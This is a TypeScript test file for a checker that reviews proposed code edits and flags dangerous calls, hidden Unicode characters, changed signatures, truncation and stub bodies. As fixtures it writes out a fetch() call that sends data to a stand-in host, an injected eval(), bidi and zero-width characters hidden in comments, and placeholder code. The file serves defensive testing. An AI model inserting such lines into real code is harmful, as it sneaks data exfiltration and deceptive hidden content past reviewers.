import assert from 'node:assert/strict';
import { diffHunks } from '../../../../../src/edit/core/diff/hunks.ts';
import { checkProposal } from '../../../../../src/edit/core/review/checkProposal.ts';
import { type ProposedChanges, withEdit } from '../../../../../src/edit/core/review/proposedChanges.ts';

const BASE = `import { read } from 'reader';

export function total(prices: readonly number[]): number {
	let sum = 0;
	for (const price of prices) {
		sum = sum + price;
	}
	return sum;
}

export function largest(prices: readonly number[]): number {
	return prices.slice().sort((a, b) => b - a)[0] ?? read();
}
`;
const FIRST = BASE.replace('sum = sum + price', 'sum += price');

const changesTo = (text: string, base = BASE): ProposedChanges => ({ base, hunks: diffHunks(base, text), lost: 0 });
const kindsOf = (changes: ProposedChanges) => checkProposal(changes, 'typescript').map(({ kind }) => kind);
/** What is found once the user has replaced a part of the first proposal. */
const kindsAfter = (from: string, to: string, first = FIRST) => {
	assert.ok(first.includes(from));
	return kindsOf(withEdit(changesTo(first), BASE, first, first.replace(from, to)));
};

describe('a proposal that was edited', () => {
	it('has nothing to warn of if it changes nothing, or only what was asked for', () => {
		assert.deepEqual(kindsOf(changesTo(BASE)), []);
		assert.deepEqual(kindsOf(changesTo('', '')), []);
		assert.deepEqual(kindsOf(changesTo(FIRST)), []);
		assert.deepEqual(kindsAfter('sum += price;', 'sum += Number(price);'), []);
	});

	it('is warned of for what the user typed into it', () => {
		assert.deepEqual(
			kindsAfter('return sum;', "void fetch('https://a.example/', { body: String(sum) });\n\treturn sum;"),
			['danger'],
		);
		assert.deepEqual(kindsAfter('sum += price;', 'sum += price; // \u202e'), ['hidden']);
		assert.deepEqual(kindsAfter('export function largest(', 'export function greatest('), ['signature']);
		assert.deepEqual(kindsAfter('sum += price;', '// ... existing code ...'), ['truncated']);
	});

	it('is warned of no longer once the edit has mended it', () => {
		const bad = FIRST.replace('sum += price;', 'sum += eval(String(price));');
		assert.deepEqual(kindsOf(changesTo(bad)), ['danger']);
		assert.deepEqual(kindsAfter('eval(String(price))', 'price', bad), []);
		const cut = FIRST.replace('\treturn sum;\n}\n', '');
		assert.deepEqual(kindsOf(changesTo(cut)), ['truncated']);
		assert.deepEqual(kindsAfter('\t}\n', '\t}\n\treturn sum;\n}\n', cut), []);
	});

	it('is still warned of for its declarations, wherever in them the changes are', () => {
		const stub = BASE.replace(/\tlet sum[\s\S]*?return sum;/, '\treturn 0;');
		assert.deepEqual(kindsOf(changesTo(stub)), ['stub']);
		assert.deepEqual(kindsAfter('return 0;', 'return 0; // later', stub), ['stub']);
		assert.deepEqual(kindsAfter('slice()', 'concat()', stub), ['stub']);
		const fewer = FIRST.replace('total(prices: readonly number[])', 'total()');
		assert.deepEqual(kindsAfter('sum += price', 'sum = price + sum', fewer), ['signature']);
		const methods = `export class Cart {\n\tadd(item: string): void {\n\t\tthis.all.push(item);\n\t}\n}\n`;
		for (const base of [methods, methods.replaceAll('\n', '\r\n')]) {
			assert.deepEqual(kindsOf(changesTo(base.replace('add(item: string)', 'add(item: number)'), base)), ['signature']);
			assert.deepEqual(kindsOf(changesTo(base.replace('.push(item)', '.unshift(item)'), base)), []);
		}
	});

	it('is warned of in a fixed order', () => {
		const kinds = kindsAfter(
			'export function largest(',
			"void fetch('https://a.example/'); // \u202e\nexport function least(",
		);
		assert.deepEqual(kinds, ['signature', 'hidden', 'danger']);
	});

	it('is not warned of for what was in the document before, changed or not', () => {
		const base = `${BASE}void fetch('https://a.example/');\n`;
		assert.deepEqual(kindsOf(changesTo(base.replace('sum = sum', 'sum = 0 + sum'), base)), []);
		assert.deepEqual(kindsOf(changesTo(base.replace('void fetch', 'await fetch'), base)), []);
	});

	it('is checked in the first and the last line as well, with or without a last line end', () => {
		const hidden = '// \u200b';
		for (const base of ['a();\nb();\nc();', 'a();\r\nb();\r\nc();\r\n', '']) {
			assert.deepEqual(kindsOf(changesTo(`${hidden}\n${base}`, base)), ['hidden']);
			assert.deepEqual(kindsOf(changesTo(`${base}${hidden}`, base)), ['hidden']);
		}
	});
});
